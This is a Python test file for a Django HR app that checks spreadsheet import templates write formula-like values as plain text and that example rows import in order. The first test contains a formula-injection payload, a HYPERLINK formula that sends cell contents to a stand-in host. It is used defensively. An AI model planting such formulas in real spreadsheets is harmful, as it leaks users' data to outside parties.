import io

from django.urls import reverse
from openpyxl import load_workbook

from casspath.cass.tests.conftest import small_model_data
from casspath.competency.actions.loading import do_load_model_data
from casspath.core.actors import SystemActor
from casspath.core.models import User
from casspath.imports import registry
from casspath.imports.framework import run_import
from casspath.imports.tests.helpers import csv_bytes, example_rows
from casspath.org.models import Position
from casspath.performance.models import PerformanceRecord


def test_it_writes_formula_like_drop_down_values_as_plain_text(world, client):
    hostile = '=HYPERLINK("http://x/?"&E2,"y")'
    Position.objects.filter(code="team_lead").update(name=hostile)
    client.force_login(User.objects.get(username="padmin"))
    response = client.get(reverse("imports:template", args=["roster"]))
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    listed = [cell for cell in cells if cell.value == hostile]
    assert listed and {cell.data_type for cell in listed} == {"s"}
    assert not [f"{cell.parent.title}!{cell.coordinate}" for cell in cells if cell.data_type == "f"]


def test_it_the_example_rows_of_each_template_import_as_they_stand(world):
    do_load_model_data(small_model_data(), org_unit=world.province, acting_user=SystemActor.cli())
    # In the order a new company fills them: each example names what the one before made.
    for kind in ("org", "roster", "ratings", "performance"):
        report = run_import(registry.get(kind), csv_bytes(example_rows(kind)), f"{kind}.csv",
                            acting_user=SystemActor.cli(), dry_run=False)
        assert report.ok and report.applied, (kind, report.as_dict())
    assert PerformanceRecord.objects.filter(employee__employee_no="GD00123").count() == 2

